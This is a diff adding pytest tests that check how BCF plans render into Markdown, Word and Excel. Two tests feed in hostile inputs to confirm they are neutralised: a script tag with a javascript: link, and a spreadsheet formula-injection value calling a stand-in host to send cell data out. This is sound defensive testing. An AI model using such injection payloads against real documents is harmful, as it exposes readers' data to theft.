@@ -1,0 +1,149 @@
+"""The rendered narrative and planning template, read back by real readers."""
+import io
+
+import docx
+import openpyxl
+import pytest
+
+from bcf_schema import available_periods, load, load_framework
+from conftest import EXAMPLE_PLANS, ROOT
+from planbuilder import complete_plan
+from renderers import excel, narrative, word
+from renderers.document import NOT_ANSWERED
+
+PLAN_IDS = [p.relative_to(ROOT / "plans").as_posix() for p in EXAMPLE_PLANS]
+
+
+def example(path):
+    plan = load(path).data
+    return plan, load_framework(plan["framework"])
+
+
+def outline_titles(fw):
+    return [e.title for e in fw.outline]
+
+
+def in_outline_order(headings, fw):
+    """The headings that are the framework's own, in the order they appear."""
+    titles = set(outline_titles(fw))
+    return [h for h in headings if h in titles]
+
+
+@pytest.mark.parametrize("path", EXAMPLE_PLANS, ids=PLAN_IDS)
+def test_markdown_outline_is_the_frameworks_outline(path):
+    plan, fw = example(path)
+    text = narrative.render(plan, fw)
+    headings = [line.lstrip("#").strip() for line in text.splitlines() if line.startswith("#")]
+    assert in_outline_order(headings, fw) == outline_titles(fw)
+
+
+@pytest.mark.parametrize("path", EXAMPLE_PLANS, ids=PLAN_IDS)
+def test_word_outline_uses_real_heading_styles_in_framework_order(path):
+    plan, fw = example(path)
+    document = docx.Document(io.BytesIO(word.render(plan, fw)))
+    headings = [p.text for p in document.paragraphs if p.style.name.startswith("Heading")]
+    assert in_outline_order(headings, fw) == outline_titles(fw)
+    levels = {p.text: int(p.style.name.split()[-1]) for p in document.paragraphs if p.style.name.startswith("Heading")}
+    for entry in fw.outline:
+        assert levels[entry.title] == entry.depth
+    assert document.core_properties.title.startswith(plan["hwbs"][0]["name"])
+
+
+@pytest.mark.parametrize("period", available_periods())
+def test_unanswered_section_is_marked_not_dropped(period):
+    fw = load_framework(period)
+    plan = complete_plan(fw)
+    missing = [e for e in fw.outline if e.answer == "required"][-1]
+    del plan["narrative"][missing.id]
+
+    text = narrative.render(plan, fw)
+    after = text.split(f" {missing.title}\n", 1)[1]
+    next_block = after.strip().split("\n\n")[0 if not missing.wording else 1]
+    assert NOT_ANSWERED in next_block
+
+    document = docx.Document(io.BytesIO(word.render(plan, fw)))
+    texts = [p.text for p in document.paragraphs]
+    position = texts.index(missing.title)
+    assert NOT_ANSWERED in texts[position + 1: position + 3]
+
+
+@pytest.mark.parametrize("period", available_periods())
+def test_word_tables_have_header_rows(period):
+    fw = load_framework(period)
+    document = docx.Document(io.BytesIO(word.render(complete_plan(fw), fw)))
+    assert document.tables
+    for table in document.tables:
+        header = table.rows[0]._tr
+        assert header.xpath("./w:trPr/w:tblHeader"), "first row is not marked as a header row"
+
+
+def test_markdown_emphasis_lists_and_links_reach_word():
+    fw = load_framework(available_periods()[-1])
+    plan = complete_plan(fw)
+    first = next(e for e in fw.outline if e.answer == "required")
+    plan["narrative"][first.id] = ("We **will** act *now*.\n\n- first point\n- second point\n\n"
+                                   "See [the guidance](https://www.gov.uk/bcf).\n")
+    document = docx.Document(io.BytesIO(word.render(plan, fw)))
+    paragraphs = document.paragraphs
+    will = next(p for p in paragraphs if p.text.startswith("We will act"))
+    assert [r.text for r in will.runs if r.bold] == ["will"]
+    assert [r.text for r in will.runs if r.italic] == ["now"]
+    bullets = [p.text for p in paragraphs if p.style.name == "List Bullet"]
+    assert bullets[:2] == ["first point", "second point"]
+    links = document.part.rels.values()
+    assert any(rel.reltype.endswith("/hyperlink") and rel.target_ref == "https://www.gov.uk/bcf" for rel in links)
+
+
+def test_javascript_links_and_html_do_not_reach_the_documents():
+    fw = load_framework(available_periods()[-1])
+    plan = complete_plan(fw)
+    first = next(e for e in fw.outline if e.answer == "required")
+    plan["narrative"][first.id] = "<script>alert(1)</script> [click](javascript:alert(1))"
+    text = narrative.render(plan, fw)
+    assert "<script>" not in text and "&lt;script>" in text
+    document = docx.Document(io.BytesIO(word.render(plan, fw)))
+    assert not any(rel.reltype.endswith("/hyperlink") for rel in document.part.rels.values())
+
+
+@pytest.mark.parametrize("path", EXAMPLE_PLANS, ids=PLAN_IDS)
+def test_excel_template_has_the_frameworks_sheets(path):
+    plan, fw = example(path)
+    book = openpyxl.load_workbook(io.BytesIO(excel.render(plan, fw)))
+    wanted = [s["title"][:31] for s in (fw.data.get("planning_template") or {}).get("sheets", excel.DEFAULT_SHEETS)
+              if hasattr(excel.TemplateWriter, f"sheet_{s['id']}")]
+    assert book.sheetnames == wanted
+    for sheet in book.worksheets[1:]:  # the cover is a form, not a table: nothing to freeze
+        if sheet.max_row > 3:
+            assert sheet.freeze_panes, f"{sheet.title}: header row not frozen"
+
+
+def test_formula_looking_plan_text_stays_text():
+    fw = load_framework(available_periods()[-1])
+    plan = complete_plan(fw)
+    evil = '=HYPERLINK("http://example.invalid/steal?"&A1,"Click")'
+    plan["schemes"][0]["name"] = evil
+    plan["schemes"][0]["provider"] = "=1+1"
+    plan["version"] = "@SUM(1,1)"
+    book = openpyxl.load_workbook(io.BytesIO(excel.render(plan, fw)))
+    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value in (evil, "=1+1", "@SUM(1,1)")]
+    assert len(cells) == 3
+    assert all(c.data_type == "s" for c in cells)
+
+
+def test_totals_are_formulas_and_money_has_a_pounds_format():
+    fw = load_framework(available_periods()[-1])
+    book = openpyxl.load_workbook(io.BytesIO(excel.render(complete_plan(fw), fw)))
+    formulas = [c for ws in book.worksheets for row in ws.iter_rows() for c in row if c.data_type == "f"]
+    assert any(str(c.value).startswith("=SUM(") for c in formulas)
+    assert any(str(c.value).startswith("=SUMIFS(") for c in formulas)
+    money_cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row
+                   if isinstance(c.value, int) and c.value == 100_000]
+    assert money_cells and all("£" in c.number_format for c in money_cells)
+
+
+@pytest.mark.parametrize("path", EXAMPLE_PLANS, ids=PLAN_IDS)
+def test_rendering_twice_gives_the_same_bytes(path):
+    plan, fw = example(path)
+    assert word.render(plan, fw) == word.render(plan, fw)
+    assert excel.render(plan, fw) == excel.render(plan, fw)
+    assert narrative.render(plan, fw) == narrative.render(plan, fw)
